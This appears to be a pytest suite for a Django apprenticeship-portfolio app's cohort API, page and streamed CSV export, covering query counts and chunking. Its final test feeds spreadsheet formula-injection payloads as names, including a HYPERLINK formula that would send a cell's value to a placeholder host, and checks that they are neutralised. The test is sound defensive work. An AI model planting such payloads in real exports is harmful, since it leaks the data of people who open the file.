"""The cohort's rows built directly (portfolio/coverage/cohort_rows.py) are what the schema's `CohortRowOut` writes,
and the cohort's API, page and CSV read a bounded number of queries whatever the number of apprentices."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from rest_framework.renderers import JSONRenderer

from api.coverage.serializers import CohortRowOut
from portfolio.coverage import cohort_csv
from portfolio.coverage.cohort_rows import cohort_api_rows, rows_of, with_row_relations
from portfolio.coverage.selectors import cohort_list_for_user
from portfolio.coverage.services.compute import coverage_recompute
from portfolio.people.models import Apprenticeship, Organisation, User
from tests.factories import ApprenticeshipFactory, EvidenceFactory, StandardFactory, make_catalogue, make_world

pytestmark = pytest.mark.django_db


def _grow(world: Any, catalogue: Any, count: int) -> list[Apprenticeship]:
    """`count` more apprentices at the world's provider, each with some accepted evidence, computed."""
    made = []
    for index in range(count):
        option = catalogue.route_a if index % 2 else catalogue.route_b
        apprenticeship = ApprenticeshipFactory.create(
            provider=world.provider, employer=world.employer, standard=catalogue.standard, option=option
        )
        EvidenceFactory.create(apprenticeship=apprenticeship, files=0, tags=("K1", "S3"), state="accepted")
        made.append(apprenticeship)
    coverage_recompute(apprenticeship_ids=[a.pk for a in made])
    return made


@pytest.fixture
def provider() -> tuple[Any, Any]:
    catalogue = make_catalogue()
    world = make_world(standard=catalogue.standard)
    # Every statement of its route (Route A): S4 is Route B's alone, and tagging it is refused.
    EvidenceFactory.create(apprenticeship=world.apprenticeship, files=0, title="Café “plan”",
                           tags=("K1", "K2", "K3", "S1", "S2", "S3"), state="accepted")  # fmt: skip
    coverage_recompute(apprenticeship_ids=[world.apprenticeship.pk])
    return world, catalogue


def test_a_built_row_is_what_the_serializer_writes(provider: Any) -> None:
    world, catalogue = provider
    _grow(world, catalogue, 3)
    # Never computed (no summary row) and on a standard without options.
    ApprenticeshipFactory.create(provider=world.provider, employer=world.employer, standard=StandardFactory.create())
    cohort = with_row_relations(cohort_list_for_user(user=world.tutor))
    rows = list(cohort.order_by("pk"))
    assert len(rows) == 5
    assert any(getattr(row, "coverage_summary", None) is None for row in rows)
    assert any(row.option is None for row in rows)
    ids = [row.pk for row in reversed(rows)]
    assert [row.pk for row in rows_of(cohort, ids)] == ids  # in the order asked
    built = cohort_api_rows(ids)
    assert len(built) == 5
    # The next progress review is added to each built row by the API view (api/coverage/views.py), for the page.
    review_fields = ("next_review_due", "review_overdue")
    for row, made in zip(rows_of(cohort, ids), built, strict=True):
        written = {k: v for k, v in CohortRowOut(row).data.items() if k not in review_fields}
        assert JSONRenderer().render(made) == JSONRenderer().render(written)


def test_the_cohort_api_reads_the_same_queries_for_few_and_many(
    client: Client, provider: Any, django_assert_num_queries: Any
) -> None:
    world, catalogue = provider
    client.force_login(world.tutor)
    _grow(world, catalogue, 2)
    assert len(client.get("/api/cohort/").json()["results"]) == 3
    # Session, user, the role check, the person's organisations, the page's ids in order with the count, and its
    # rows with their dates (6); then each row's next progress review: their last reviews, breaks, agreed and
    # provider intervals (4).
    with django_assert_num_queries(6 + 4):
        client.get("/api/cohort/?ordering=percent")
    _grow(world, catalogue, 9)
    with django_assert_num_queries(6 + 4):
        assert len(client.get("/api/cohort/?ordering=percent").json()["results"]) == 12


def test_the_cohort_page_and_csv_read_the_same_queries_for_few_and_many(
    client: Client, provider: Any, django_assert_num_queries: Any, monkeypatch: Any
) -> None:
    world, catalogue = provider
    client.force_login(world.tutor)
    monkeypatch.setattr(cohort_csv, "CSV_FIRST_CHUNK", 2)  # both downloads written in two parts, as a large one is

    def csv_rows() -> list[list[str]]:
        response = client.get("/cohort/?format=csv")
        return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))  # type: ignore[attr-defined]

    counts = []
    for grow in (2, 9):
        _grow(world, catalogue, grow)
        with django_assert_num_queries(PAGE_QUERIES) as page:
            assert client.get("/cohort/").status_code == 200
        with django_assert_num_queries(CSV_QUERIES) as download:
            rows = csv_rows()
        counts.append((len(page), len(download), len(rows)))
    assert [count[2] for count in counts] == [4, 13]  # the header and a row each
    activity = {row[1]: row[14] for row in csv_rows()[1:]}
    assert activity[world.apprentice.email]  # last activity, read per chunk of rows


@pytest.mark.parametrize(("first", "chunks"), [(100, [2, 2, 1]), (1, [1, 2, 2])])
@pytest.mark.parametrize("writer", ["postgresql", "python"])
def test_the_csv_streams_a_chunk_of_rows_at_a_time(
    client: Client, provider: Any, monkeypatch: Any, first: int, chunks: list[int], writer: str
) -> None:
    """Its memory stays bounded: a part of the response holds one chunk of rows, written before the next is read
    (by PostgreSQL: COPY sends a row at a time; by Python: from a server-side cursor, each chunk's AO figures read
    with it). The header goes with the first part, of CSV_FIRST_CHUNK rows, so the download starts sooner."""
    world, catalogue = provider
    _grow(world, catalogue, 4)  # 5 rows
    monkeypatch.setattr(cohort_csv, "CSV_CHUNK", 2)
    monkeypatch.setattr(cohort_csv, "CSV_FIRST_CHUNK", first)
    if writer == "python":
        monkeypatch.setattr(cohort_csv, "written_by_postgresql", lambda: False)
    client.force_login(world.tutor)
    parts = [part.decode() for part in client.get("/cohort/?format=csv").streaming_content]  # type: ignore[attr-defined]
    assert [part.count("\r\n") for part in parts] == [1 + chunks[0], *chunks[1:]]
    assert parts[0].startswith("apprentice,email,")
    assert len({line.split(",")[1] for line in "".join(parts).splitlines()[1:]}) == 5


def test_the_cohort_page_sorted_by_activity_shows_the_same_dates(client: Client, provider: Any) -> None:
    world, catalogue = provider
    _grow(world, catalogue, 3)
    client.force_login(world.tutor)
    by_coverage = client.get("/cohort/").context["page"].object_list
    by_activity = client.get("/cohort/?sort=-activity").context["page"].object_list
    assert {a.pk: a.last_activity for a in by_coverage} == {a.pk: a.last_activity for a in by_activity}
    assert all(a.last_activity is not None for a in by_activity)


# Session, user, the person's roles (read once: the role check and the header share them), their organisations, the
# unread count, the page's filter choices (the distinct ids, then the standards', options' and employers' names),
# the page's ids in order with the count, its rows with their last activity, and their AO rows. Then each row's
# next progress review (portfolio/progress/selectors.py): 4 for the page's rows.
PAGE_QUERIES = 9 + 3 + 4
# Session, user, the person's roles, their organisations; the rows' ids in order; then for the first CSV_FIRST_CHUNK
# rows and again for the rest, their next progress reviews (5) and the rows, written by PostgreSQL in one COPY with
# their last activity and AO column.
CSV_QUERIES = 4 + 1 + 2 * (5 + 1)


@pytest.mark.parametrize(
    ("first_name", "cell"),
    [
        (
            '=HYPERLINK("http://x.invalid/?"&B2,"Open")',
            '\'=HYPERLINK("http://x.invalid/?"&B2,"Open") Morgan',
        ),
        ("+1+2", "'+1+2 Morgan"),
        ("-2+3", "'-2+3 Morgan"),
        ("@SUM(A1)", "'@SUM(A1) Morgan"),
        ("Alex", "Alex Morgan"),
    ],
)
def test_the_csv_writes_a_cell_that_starts_like_a_formula_as_text(
    client: Client, provider: Any, first_name: str, cell: str
) -> None:
    """An apprentice chooses their own name, and staff open the CSV in a spreadsheet: a name that starts like a
    formula gets an apostrophe before it, so the spreadsheet shows it and runs nothing; other names are as they are."""
    world, _ = provider
    User.objects.filter(pk=world.apprentice.pk).update(first_name=first_name, last_name="Morgan")
    Organisation.objects.filter(pk=world.employer.pk).update(name="=1+1 Ltd")
    client.force_login(world.tutor)
    response = client.get("/cohort/?format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))  # type: ignore[attr-defined]
    [row] = [row for row in rows[1:] if row[1] == world.apprentice.email]
    assert (row[0], row[2]) == (cell, "'=1+1 Ltd")
